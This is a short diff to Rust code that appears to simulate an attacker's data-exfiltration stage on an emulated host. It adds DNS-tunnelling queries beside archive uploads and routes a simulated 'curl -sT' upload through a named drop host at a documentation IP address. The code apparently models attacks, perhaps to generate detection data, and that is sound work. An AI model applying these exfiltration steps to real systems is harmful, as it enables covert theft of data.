@@ -7,6 +7,7 @@
 use super::call::NO_SUCH_FILE;
 use super::files::{CREATE, READ};
 use super::host::Host;
+use super::names;
 use super::process::Task;
 use super::remote::{ADMIN, LoginLabels, Session};
 use super::services::Services;
@@ -61,6 +62,11 @@ impl Exfiltration {
         };
         let step = self.done;
         self.done += 1;
+        if step >= LOOKS / 2 {
+            // What is found is sent out slowly from here on, beside the archives.
+            let queries = host.resolver.random.between(1, 4);
+            host.tunnel_names(session.shell, queries);
+        }
         const PACKED: u32 = LOOKS + ARCHIVES;
         const SENT: u32 = PACKED + ARCHIVES;
         match step {
@@ -121,7 +127,7 @@ fn send(host: &mut Host<'_, '_>, shell: Task, number: u32) {
     let from = archive(number);
     host.command_with(shell, &tools::CURL, &["-sT", &from], |host, task| {
         host.open_fails(task, "/home/ubuntu/.curlrc", READ, NO_SUCH_FILE);
-        host.resolve_name(task);
+        host.resolve_name(task, names::DROP_HOST);
         let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
         let server = host.internet([203, 0, 113, 24], 443);
         host.connect(task, fd, &server, 0);
